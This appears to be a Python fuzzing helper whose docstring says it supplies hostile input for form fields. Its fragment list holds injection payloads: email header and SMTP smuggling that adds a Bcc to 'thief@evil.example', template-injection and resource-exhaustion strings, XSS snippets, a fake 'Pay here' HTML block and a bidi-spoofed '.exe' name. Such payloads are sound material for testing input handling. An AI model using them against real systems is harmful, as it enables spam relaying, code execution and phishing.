"""What somebody may write into a field to see what comes of it."""

import random

PIECES = (
    "\r\nBcc: thief@evil.example\r\n\r\n",
    "\nSubject: another\n",
    "\r\n.\r\nMAIL FROM:<thief@evil.example>\r\n",
    "\x00",
    "\x1atoken\x1a",
    "\x85\u2028\u2029",
    "\u202egnp.exe\u202c",
    "\u2066\u200f\u061c",
    "{{ 7 * 7 }}",
    "{{ link }}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "&lt;b&gt; & \"quotes\" 'and' more",
    "</td></tr></table><h1>Pay here</h1>",
    '"a, b" <thief@evil.example>, ',
    "=?utf-8?q?=0D=0ABcc=3A_thief=40evil.example?=",
    "\ud800",
    "\udfff\udbff",
    "Ünïcödé 東京 مرحبا 🚛",
    "%s %(x)s ${x}",
    "\\r\\n\\x00",
    "x" * 10_000,
    "é" * 3_000,
    "",
    " ",
)


def hostile(rng: random.Random) -> str:
    return "".join(rng.choices(PIECES, k=rng.randrange(1, 5)))
